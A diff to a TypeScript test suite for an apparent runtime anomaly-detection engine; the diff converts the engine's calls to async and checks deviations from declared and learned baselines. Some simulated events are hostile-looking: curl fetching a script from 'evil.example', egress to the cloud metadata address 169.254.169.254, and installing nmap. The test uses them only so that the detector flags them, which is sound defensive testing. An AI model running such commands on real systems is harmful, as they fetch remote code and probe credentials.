@@ -63,36 +63,36 @@ t.test('extend adds to the learned baseline; replace is the whole baseline; deny
   });
   const f = await fixture({ baselinesDir: dir });
   t.teardown(() => f.close());
-  f.feed(exec('/usr/sbin/nginx', { time: T0 }), exec('/usr/bin/apt-get', { time: T0 + 1, args: 'install -y nmap' }), net('egress', { time: T0 + 2, peer: '169.254.169.254', port: 80 }));
+  await f.feed(exec('/usr/sbin/nginx', { time: T0 }), exec('/usr/bin/apt-get', { time: T0 + 1, args: 'install -y nmap' }), net('egress', { time: T0 + 2, peer: '169.254.169.254', port: 80 }));
   t.same(deviationList(f), ['denied n|egress|tcp|80|ip|169.254.169.254 critical open', 'denied p|/usr/bin/apt-get critical open'], 'denied even while learning');
-  f.engine.tick(T0 + 2 * HOUR);
+  await f.engine.unitOfWork.tick(T0 + 2 * HOUR);
   const at = T0 + 3 * HOUR;
-  f.feed(
+  await f.feed(
     exec('/usr/bin/curl', { time: at, args: '-s http://localhost:8080/healthz' }),
     net('egress', { time: at, peer: '203.0.113.77', port: 443, exe: '/usr/bin/curl' }),
     exec('/usr/sbin/nginx', { time: at }),
   );
   t.equal(deviationList(f).length, 2, 'extend: declared items allowed, learned ones too');
-  f.feed(exec('/usr/bin/curl', { time: at + 1, args: '-s http://evil.example/x.sh' }));
+  await f.feed(exec('/usr/bin/curl', { time: at + 1, args: '-s http://evil.example/x.sh' }));
   t.ok(deviationList(f).includes('process p|/usr/bin/curl high open'), 'argument patterns are matched strictly');
-  t.ok(!f.engine.edgeBaselines([WEB])[0]!.allow.includes('p|/usr/bin/curl'), 'arg-restricted exes are not dropped at the edge');
-  t.ok(f.engine.edgeBaselines([WEB])[0]!.allow.includes('n|egress|tcp|443|net|203.0.113.0/24'), 'declared CIDR+port is');
+  t.ok(!(await f.engine.edge.forWorkloads([WEB]))[0]!.allow.includes('p|/usr/bin/curl'), 'arg-restricted exes are not dropped at the edge');
+  t.ok((await f.engine.edge.forWorkloads([WEB]))[0]!.allow.includes('n|egress|tcp|443|net|203.0.113.0/24'), 'declared CIDR+port is');
 
   writeFileSync(join(dir, 'extend.yaml'), doc('  selector: { namespace: shop, workload: web }\n  mode: replace\n  allow:\n    processes:\n      - path: /usr/sbin/nginx'));
   t.ok(f.engine.reload().changed);
   const before = deviationList(f).length;
-  f.feed(exec('/usr/sbin/nginx', { time: at + 2 }), net('egress', { time: at + 3, peer: '203.0.113.77', port: 443 }));
+  await f.feed(exec('/usr/sbin/nginx', { time: at + 2 }), net('egress', { time: at + 3, peer: '203.0.113.77', port: 443 }));
   t.equal(deviationList(f).length, before + 1, 'replace: only what is declared');
-  t.same(f.engine.edgeBaselines([WEB])[0]!.allow.filter((k) => !k.startsWith('i|')), ['p|/usr/sbin/nginx'], 'the edge holds only the declared set');
+  t.same((await f.engine.edge.forWorkloads([WEB]))[0]!.allow.filter((k) => !k.startsWith('i|')), ['p|/usr/sbin/nginx'], 'the edge holds only the declared set');
 });
 
 t.test('replace enforces from the first event; the directory is watched', async (t) => {
   const dir = t.testdir({});
   const f = await fixture({ baselinesDir: dir });
   t.teardown(() => f.close());
-  f.feed(exec('/learned', { time: T0 }));
+  await f.feed(exec('/learned', { time: T0 }));
   const pushed: string[][] = [];
-  f.engine.onEdgeChange((c) => pushed.push(...c.map((b) => b.allow)));
+  f.engine.edge.onChange((c) => pushed.push(...c.map((b) => b.allow)));
   writeFileSync(join(dir, 'web.yaml'), doc('  selector: { workload: web }\n  mode: replace\n  allow:\n    processes:\n      - path: /a'));
   // fs.watch + debounce: wait until the change has been picked up and pushed to the edge.
   const seen = await new Promise<boolean>((resolve) => {
@@ -106,7 +106,7 @@ t.test('replace enforces from the first event; the directory is watched', async 
   });
   t.ok(seen, 'the change was picked up without a reload() call');
   if (!seen) f.engine.reload();
-  f.feed(exec('/a', { time: T0 + 1 }), exec('/b', { time: T0 + 2 }), exec('/learned', { time: T0 + 3 }));
+  await f.feed(exec('/a', { time: T0 + 1 }), exec('/b', { time: T0 + 2 }), exec('/learned', { time: T0 + 3 }));
   t.same(deviationList(f), ['process p|/b medium open', 'process p|/learned medium open'], 'no learning window under replace; learned items do not count');
 });
 
@@ -116,9 +116,8 @@ t.test('on the recorded cluster, the shipped examples change the outcome as docu
   const replay = new Replay({ baselinesDir: dir });
   t.teardown(() => replay.close());
   await replay.start();
-  replay.feed(generateScenario());
-  const open = replay
-    .deviations()
+  await replay.feed(generateScenario());
+  const open = (await replay.deviations())
     .filter((d) => d.status === 'open')
     .map(deviationKey);
   t.same(open, [
